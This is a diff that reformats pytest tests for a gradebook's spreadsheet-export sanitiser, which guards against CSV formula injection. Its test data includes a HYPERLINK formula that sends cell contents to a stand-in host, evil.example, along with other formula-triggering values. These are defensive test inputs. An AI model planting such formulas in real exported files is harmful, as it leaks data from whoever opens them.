@@ -16,8 +16,10 @@ from coursehub.grading.layout import ensure_course, make_layout
 @pytest.mark.parametrize(
     ("cell", "expected"),
     [
-        ('=HYPERLINK("http://evil.example/?"&A1,"click")',
-         '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
+        (
+            '=HYPERLINK("http://evil.example/?"&A1,"click")',
+            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+        ),
         ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
         ("-1", "'-1"),  # text that looks like a number is text
         ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
@@ -35,7 +37,7 @@ from coursehub.grading.layout import ensure_course, make_layout
         (None, None),
         (True, "True"),
     ],
-)  # fmt: skip
+)
 def test_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_are_kept(cell, expected):
     assert neutralise_cell(cell) == expected
 
@@ -72,7 +74,7 @@ def test_names_with_commas_quotes_and_separators_never_shift_the_columns():
         ("O'Brien-Smith", "O'Brien-Smith"),
         ("Dupont; Jr", "Dupont; Jr"),
     ],
-)  # fmt: skip
+)
 def test_a_formula_after_a_separator_inside_a_cell_is_neutralised_too(cell, expected):
     """Excel in a ';' locale splits "Roy;=cmd" into two cells, the second a formula."""
     assert neutralise_cell(cell) == expected
@@ -103,8 +105,12 @@ def course_with_hostile_names(tmp_path):
     ensure_course(layout)
     with Gradebook(layout.db_url, course_id=layout.course_id) as gradebook:
         gradebook.add_assignment("ps1")
-        gradebook.add_student("p1", last_name='=HYPERLINK("http://evil.example/?"&A1,"click")',
-                              first_name="Jean, Jr", email="+1@x.org")  # fmt: skip
+        gradebook.add_student(
+            "p1",
+            last_name='=HYPERLINK("http://evil.example/?"&A1,"click")',
+            first_name="Jean, Jr",
+            email="+1@x.org",
+        )
         gradebook.add_student("p2", last_name='Roy "Z"', first_name="@SUM", email=None)
     return layout
 
